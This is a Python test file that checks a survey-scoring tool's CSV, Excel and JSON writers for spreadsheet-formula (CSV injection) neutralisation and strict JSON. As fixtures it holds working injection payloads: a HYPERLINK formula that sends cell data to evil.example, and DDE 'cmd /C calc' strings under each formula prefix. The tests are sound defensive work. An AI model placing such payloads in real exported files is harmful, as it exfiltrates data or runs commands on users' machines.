"""The one table writer: every CSV and Excel file, from the CLI or a download, neutralises
spreadsheet formulas (OWASP "CSV injection"); JSON is strict (no NaN) and exact.

Three layers: the writer's own rules; every CLI command that writes a table, run on a database
whose unit id and name are formulas; and a scan of the source that finds any CSV, Excel or
JSON writing outside :mod:`scoring.formats.tables` (so a new page or command cannot slip past).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import re
import shutil

import numpy as np
import openpyxl
import pandas as pd
import pytest

from scoring.cli import main
from scoring.formats.tables import (
    BOM,
    FORMULA_STARTS,
    csv_bytes,
    frame_records,
    json_text,
    neutralise_formulas,
    write_csv,
    write_table,
    write_xlsx,
    xlsx_bytes,
)
from scoring.store import api
from scoring.store.db import get_engine, make_engine, migrate
from tests.conftest import REPO

EVIL_ID = "-k9"
ROUND = "@runde-1"  # a round name is free text too
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Klikk")'
RISKY = [f"{start}cmd|' /C calc'!A0" for start in FORMULA_STARTS]


def strict_json(text: str):
    """Parse JSON that must not contain NaN or Infinity (which ``json.loads`` accepts)."""

    def refuse(constant):
        raise AssertionError(f"{constant} in JSON")

    return json.loads(text, parse_constant=refuse)


def risky_cells(rows) -> list[str]:
    """Text cells a spreadsheet would run: start with = + - @ tab CR and are not plain numbers."""
    plain = re.compile(r"^[+\-\u2212]?[\d\u00a0\u202f ,.]*\d(?:[eE][+\-]?\d+)?$")
    return [c for row in rows for c in row if isinstance(c, str) and c.startswith(FORMULA_STARTS) and not plain.match(c)]


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_rows(source) -> list[list]:
    book = openpyxl.load_workbook(source)
    rows = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row), "a formula cell"
            rows.append([cell.value for cell in row])
    return rows


# --- the writer ------------------------------------------------------------------------------


def frame() -> pd.DataFrame:
    return pd.DataFrame({
        "text": RISKY + ["ok", None],
        "number": [-1.5, 2.0, -3.0, 4.0, 5.0, 6.0, np.nan, 8.0],
        "signed_text": ["-0,35", "+1.5", "−2", "-1 234,5", "1e-3", "-", "@", "="],
        "mixed": [1, "=1+1", -2.5, "for få svar", None, 3, "-x", "y"],
        "category": pd.Categorical(["=a", "b", "=a", "b", "b", "b", "b", "b"]),
        "=heading": range(8),
    })  # fmt: skip


def test_neutralising_prefixes_every_formula_start_and_leaves_numbers_alone():
    out = neutralise_formulas(frame())
    assert out["text"].tolist()[:6] == ["'" + v for v in RISKY] and out["text"].tolist()[6] == "ok"
    assert out["number"].equals(frame()["number"])
    assert out["signed_text"].tolist() == ["-0,35", "+1.5", "−2", "-1 234,5", "1e-3", "'-", "'@", "'="]
    assert out["mixed"].tolist()[:4] == [1, "'=1+1", -2.5, "for få svar"] and out["mixed"].tolist()[6] == "'-x"
    assert out["category"].tolist()[0] == "'=a"
    assert list(out.columns)[-1] == "'=heading"


def test_csv_for_excel_has_a_byte_order_mark_and_no_formula():
    data = csv_bytes(frame())
    assert data.startswith(BOM)
    rows = csv_rows(data)
    assert risky_cells(rows) == []
    assert rows[1][0] == "'" + RISKY[0] and rows[1][1] == "-1.5" and rows[1][3] == "1"
    plain = io.BytesIO()
    write_csv(frame(), plain)
    assert not plain.getvalue().startswith(BOM) and csv_rows(plain.getvalue()) == rows


def test_csv_with_fixed_decimals_is_neutralised_too(tmp_path):
    write_csv(frame(), tmp_path / "t.csv", float_format="%.1f")
    rows = csv_rows((tmp_path / "t.csv").read_bytes())
    assert risky_cells(rows) == [] and rows[1][1] == "-1.5" and rows[2][1] == "2.0"


def test_excel_cells_are_text_never_formulas():
    rows = xlsx_rows(io.BytesIO(xlsx_bytes({"a": frame(), "b": frame()})))
    assert risky_cells(rows) == []
    assert rows[1][:2] == ["'" + RISKY[0], -1.5]


def test_an_xlsform_keeps_its_text_exactly_but_never_as_a_formula(tmp_path):
    write_xlsx({"survey": pd.DataFrame({"label": ["=1+1", "- Ikke relevant"]})}, tmp_path / "form.xlsx", neutralise=False)
    cells = openpyxl.load_workbook(tmp_path / "form.xlsx")["survey"]
    assert [(c.value, c.data_type) for c in cells["A"][1:]] == [("=1+1", "s"), ("- Ikke relevant", "s")]


def test_write_table_chooses_the_format_by_suffix_and_neutralises(tmp_path):
    write_table(frame(), tmp_path / "t.csv")
    write_table(frame(), tmp_path / "t.xlsx")
    assert risky_cells(csv_rows((tmp_path / "t.csv").read_bytes())) == []
    assert risky_cells(xlsx_rows(tmp_path / "t.xlsx")) == []


def test_json_is_strict_and_exact():
    records = frame_records(frame().assign(when=pd.Timestamp("2026-03-01"), missing=pd.NA))
    text = json_text({"rows": records, "inf": float("inf"), "n": np.int64(3), "day": dt.date(2026, 3, 1)})
    parsed = strict_json(text)
    assert parsed["inf"] is None and parsed["n"] == 3 and parsed["day"] == "2026-03-01"
    first = parsed["rows"][0]
    assert first["text"] == RISKY[0] and first["number"] == -1.5 and first["=heading"] == 0  # JSON is not neutralised
    assert parsed["rows"][6]["number"] is None and first["when"] == "2026-03-01" and first["missing"] is None
    assert parsed["rows"][1]["number"] == 2 and isinstance(parsed["rows"][1]["number"], int)


# --- every CLI writer, on a database of formulas ----------------------------------------------


@pytest.fixture(scope="module")
def template(tmp_path_factory):
    """The sample units plus unit ``-k9`` named like a formula, a round ``@runde-1`` with one
    answer there."""
    path = tmp_path_factory.mktemp("tables") / "samklima.db"
    engine = make_engine(f"sqlite:///{path}")
    migrate(engine)
    units = pd.read_csv(REPO / "sample_data" / "units.csv", dtype=str, keep_default_na=False)
    units.loc[len(units)] = [EVIL_ID, EVIL_NAME, "k1", "team"]
    api.import_units(engine, units)
    api.create_round(engine, ROUND, ["medbestemmelse"], [EVIL_ID, "k1.ho.hj1.t1"])
    from scoring.instrument.catalog import bundled

    answers = {i: 3 for i in bundled("medbestemmelse").item_ids}
    token = next(link.token for link in api.make_links(engine, ROUND) if link.unit == EVIL_ID)
    api.submit_response(engine, token=token, answers=answers, language="nb", idempotency_key="a")
    engine.dispose()
    return path


@pytest.fixture
def cli_db(template, tmp_path, monkeypatch):
    shutil.copyfile(template, tmp_path / "samklima.db")
    monkeypatch.setenv("SAMKLIMA_DATABASE_URL", f"sqlite:///{tmp_path}/samklima.db")
    get_engine.cache_clear()
    yield tmp_path
    get_engine.cache_clear()


def run(capsysbinary, *args) -> tuple[int, bytes, bytes]:
    code = main([str(a) for a in args])
    out, err = capsysbinary.readouterr()
    return code, out, err


def test_units_list_csv_is_neutralised_and_json_is_exact(cli_db, capsysbinary):
    code, out, _ = run(capsysbinary, "units", "list")
    rows = csv_rows(out)
    assert code == 0 and risky_cells(rows) == [] and ["'" + EVIL_ID, "'" + EVIL_NAME, "k1", "team"] in rows
    code, out, _ = run(capsysbinary, "units", "list", "--json")
    records = strict_json(out.decode("utf-8"))
    assert {"unit": EVIL_ID, "name": EVIL_NAME, "parent": "k1", "unit_type": "team"} in records
    assert next(r for r in records if r["unit"] == "k1")["parent"] is None


@pytest.mark.parametrize("suffix", ["", ".csv", ".xlsx"])
def test_responses_are_neutralised_on_stdout_and_in_files(cli_db, capsysbinary, suffix):
    out_file = cli_db / f"responses{suffix}"
    code, out, _ = run(capsysbinary, "responses", "--round", ROUND, *(["--out", out_file] if suffix else []))
    assert code == 0
    rows = xlsx_rows(out_file) if suffix == ".xlsx" else csv_rows(out_file.read_bytes() if suffix else out)
    assert risky_cells(rows) == [] and rows[1][1] == "'" + EVIL_ID


def test_responses_json_is_strict(cli_db, capsysbinary):
    code, out, _ = run(capsysbinary, "responses", "--round", ROUND, "--format", "json")
    (record,) = strict_json(out.decode("utf-8"))
    assert code == 0 and record["unit"] == EVIL_ID and record["mb_egen1"] == 3


def test_round_status_json_is_strict(cli_db, capsysbinary):
    code, out, _ = run(capsysbinary, "round", "status", ROUND, "--json")
    rows = strict_json(out.decode("utf-8"))
    assert code == 0 and {r["unit"] for r in rows} == {EVIL_ID, "k1.ho.hj1.t1"}


@pytest.mark.parametrize("suffix", ["", ".xlsx"])
def test_score_passes_columns_through_neutralised(tmp_path, capsysbinary, suffix):
    from scoring.instrument.catalog import bundled

    items = bundled("medbestemmelse").item_ids
    data = pd.DataFrame({"response": ["r1", "r2"], "note": [EVIL_NAME, "@SUM(A1)"], **{i: [3, 4] for i in items}})
    data.to_csv(tmp_path / "in.csv", index=False)
    out_file = tmp_path / f"scores{suffix}"
    code, out, _ = run(capsysbinary, "score", tmp_path / "in.csv", "-i", "medbestemmelse", *(["--out", out_file] if suffix else []))
    rows = xlsx_rows(out_file) if suffix else csv_rows(out)
    assert code == 0 and risky_cells(rows) == [] and "'" + EVIL_NAME in rows[1]


def test_the_rejected_rows_file_is_neutralised(cli_db, capsysbinary):
    from scoring.instrument.catalog import bundled

    items = bundled("medbestemmelse").item_ids
    data = pd.DataFrame({"response": ["=r1"], "unit": ["k1.ho.hj1.t1"], "note": ["+evil()"], **{i: [7] for i in items}})
    data.to_csv(cli_db / "in.csv", index=False)
    code, _, _ = run(capsysbinary, "import", cli_db / "in.csv", "--round", ROUND, "--rejected", cli_db / "bad.csv")
    rows = csv_rows((cli_db / "bad.csv").read_bytes())
    assert code == 2 and risky_cells(rows) == [] and "'+evil()" in rows[1] and "'=r1" in rows[1]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_exports_are_neutralised(cli_db, capsysbinary, fmt):
    out_file = cli_db / f"export.{fmt}"
    code, out, _ = run(capsysbinary, "export", "--round", ROUND, "--format", fmt, "--out", out_file, "--json")
    assert code == 0
    strict_json(out.decode("utf-8"))
    rows = xlsx_rows(out_file) if fmt == "xlsx" else csv_rows(out_file.read_bytes())
    assert risky_cells(rows) == [] and any("'" + ROUND in row for row in rows)
    if fmt == "csv":
        assert risky_cells(csv_rows((cli_db / "export.codebook.csv").read_bytes())) == []


# --- no other writer ---------------------------------------------------------------------------

WRITERS = re.compile(r"\.to_csv\(|\.to_excel\(|ExcelWriter\(|pacsv\.write_csv\(|json\.dumps?\(")
# Writing that is not a file or download for people: each with the reason it may stay.
NOT_A_DOWNLOAD = {
    "scoring/store/bulk.py": "encodes answer arrays and fields as JSON for the database",
    "scoring/store/db.py": "the database's JSON serialiser",
    "scoring/store/form.py": "canonical JSON of the definitions, hashed",
    "scoring/store/submit.py": "encodes one answer array for the database",
    "scoring/formats/files.py": "Parquet field metadata (labels and codes as JSON)",
    "scoring/privacy/publication.py": "Publication.to_json, strict (allow_nan=False), read by the CLI's --json",
    "scoring/commands/publication.py": "prints Publication.to_json",
    "scoring/instrument/record.py": "quotes the validation block's strings as YAML (JSON strings are YAML)",
    "scoring/reporting/validation.py": "canonical JSON of the report's numbers, hashed into its id",
    "scoring/store/decisions.py": "canonical JSON of the unit tree, hashed; Arrow schema metadata",
    "scoring/store/results.py": "stored analysis results as JSON in the database; canonical JSON of their key, hashed",
}


def test_every_csv_excel_and_json_writer_is_the_one_in_scoring_tables():
    found = []
    for path in sorted([*REPO.glob("scoring/**/*.py"), *REPO.glob("dashboard/**/*.py"), REPO / "app.py"]):
        name = path.relative_to(REPO).as_posix()
        if name in ("scoring/formats/tables.py", "scoring/strict_json.py") or name in NOT_A_DOWNLOAD:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if WRITERS.search(line):
                found.append(f"{name}:{number}: {line.strip()}")
    assert found == [], "write tables and JSON with scoring.formats.tables:\n" + "\n".join(found)


def test_every_download_button_gets_bytes_from_the_writer_or_a_pdf():
    """A download button's data is csv_bytes/xlsx_bytes, an export written by write_export (which
    uses the writer), or a PDF; anything else would be a new way to make a table file."""
    allowed = re.compile(r"csv_bytes\(|printables\.|\bpdf\b|\bcontent\b|buffer\.getvalue\(\)")
    for path in sorted(REPO.glob("dashboard/**/*.py")):
        text = path.read_text(encoding="utf-8")
        for match in re.finditer(r"download_button\(", text):
            call = text[match.end() : match.end() + 400]
            assert allowed.search(call.split("file_name")[0]), f"{path.relative_to(REPO)}: {call[:120]!r}"
